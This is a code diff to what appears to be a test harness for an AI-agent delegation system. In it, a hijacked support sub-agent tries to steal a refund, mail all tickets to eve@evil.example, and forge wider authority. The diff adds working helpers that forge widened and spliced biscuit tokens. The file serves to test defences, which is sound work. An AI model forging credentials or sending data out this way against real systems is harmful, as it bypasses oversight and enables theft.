@@ -1,4 +1,4 @@
-"""The support desk: an orchestrator, three agents, and a sub-agent that was hijacked.
+"""The support desk: an orchestrator, three agents, a hijacked sub-agent, and a ticket left open.
 
 Every attempt is a real request to a real server. The mock tools record what was executed, so harm is
 counted by its effect and not by what somebody says about it.
@@ -6,18 +6,23 @@ counted by its effect and not by what somebody says about it.
 
 from __future__ import annotations
 
-from collections.abc import Callable
+import secrets
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass, field, replace
 from typing import Final
 
 from rich.console import Console
 from rich.text import Text
 
+from delegation import canonical
 from delegation.authority.access import Access
+from delegation.authority.approval import ApprovalRule
 from delegation.authority.capability import Capability, may
 from delegation.authority.catalogue import Tool
+from delegation.authority.chain import child_payload
 from delegation.authority.constraints import all_of, between, each, email, exact, links, text
 from delegation.authority.grant import Grant
+from delegation.authority.pattern import tool_pattern
 from delegation.canonical import Json
 from delegation.client import Client
 from delegation.commands.announce import announcement
@@ -26,7 +31,9 @@ from delegation.errors import WiderThanParentError
 from delegation.graph.names import clean
 from delegation.identity.keys import HolderKey
 from delegation.judge.decision import Decision
-from delegation.rehearsal import forgery
+from delegation.lineage.entry import TaskEntry
+from delegation.tokens import biscuit, biscuit_wire
+from delegation.tokens.text import TokenBytes, read_text
 from delegation.tokens.token import Token
 
 OWNER: Final = "ana@acme.example"
@@ -156,9 +163,7 @@ class Desk:
         steal = call("payments.refund", order="ord-99", amount=5000)
         leak = call("mail.send", to=["eve@evil.example"], body="All tickets")
         self._widen_in_library(me)
-        wide = forgery.widened(
-            me.token, me.key, Grant([READ, REFUND, MAIL], effects=["read", "write"])
-        )
+        wide = widened(me.token, me.key, Grant([READ, REFUND, MAIL], effects=["read", "write"]))
         self._harm(
             "widens its grant with a hand-made link", leak, lambda a: self._ask(wide, me.key, a)
         )
@@ -172,7 +177,7 @@ class Desk:
         )
         upper = self._members["retrieval"].token
         self._harm("strips its own link off", other, lambda a: self._ask(upper, me.key, a))
-        splice = forgery.spliced(boss.token, me.token)
+        splice = spliced(boss.token, me.token)
         self._harm(
             "splices itself under the root",
             steal,
@@ -298,3 +303,64 @@ class Desk:
         for what in self._wrong:
             self._console.print(Text(f"  WRONG: {what}", style="bold"))
         return not self._wrong
+
+
+APPROVERS: Final = ("finance", "cy@acme.example")  # a role, and a person
+LASTS: Final = 30 * 3600  # seconds: longer than a day is a finding
+
+
+def leave_open(client: Client, keys: Mapping[str, HolderKey]) -> tuple[TaskEntry, Decision]:
+    """Open a task, hand it on, and ask for a refund that people have to consent to.
+
+    An unregistered key called `rnail` gets all that the orchestrator holds, and never uses it.
+
+    Args:
+        client: An operator's client, at whose service the desk's tools and agents are registered.
+        keys: The keys of `orchestrator` and `refund`.
+
+    Returns:
+        The task, and the decision of the refund.
+    """
+    rule = ApprovalRule((tool_pattern("payments.*"),), approvers=APPROVERS, quorum=1)
+    ceiling = Grant(
+        [READ, REFUND, MAIL], audience=[DESK], purpose="support", delegations_left=3,
+        budget={"calls": 40, "usd_cents": 20_000}, needs_approval=[rule],
+    )  # fmt: skip
+    task = client.open_task("Refund for ticket 4712", owner=OWNER, ceiling=ceiling, lasts=LASTS)
+    boss, clerk = keys["orchestrator"], keys["refund"]
+    root = client.issue(task, to=boss.public)
+    fewer = root.grant.narrow([REFUND], budget={"calls": 5, "usd_cents": 5000})
+    for key, grant in ((HolderKey.generate("rnail"), Grant()), (clerk, fewer)):
+        token = root.delegate(by=boss, to=key.public, grant=grant)
+        client.announce(token, key.prove(token, announcement(token.chain.origin.issuer)))
+    refund = call("payments.refund", order="ord-91", amount=4800)
+    return task, client.check(token, clerk.prove(token, refund), refund)
+
+
+def widened(token: Token, key: HolderKey, grant: Grant) -> Token:
+    """Return a biscuit with one more link, well signed by its holder, that holds too much.
+
+    Args:
+        token: What the attacker holds.
+        key: Its key.
+        grant: What it would like to hold; unset fields are copied.
+    """
+    leaf = token.chain.leaf
+    payload = child_payload(
+        leaf.id,
+        holder_key=key.public.key,
+        holder_name=key.name,
+        grant=grant.filled_from(leaf.grant),
+        salt=secrets.token_bytes(16),
+        least=leaf.version,
+    )
+    body = biscuit.append(read_text(token.text).body, payload, holder_seed=key.secret_seed())
+    return replace(token, text=TokenBytes("biscuit", body).to_text())
+
+
+def spliced(root: Token, victim: Token) -> str:
+    """Return the text of a biscuit that takes one token's root and another's last block."""
+    above = biscuit_wire.read(read_text(root.text).body)
+    below = biscuit_wire.read(read_text(victim.text).body)
+    parts = replace(above, blocks=(*above.blocks, below.blocks[-1]), seed=below.seed)
+    return f"dct.b1.{canonical.b64u(biscuit_wire.write(parts))}"
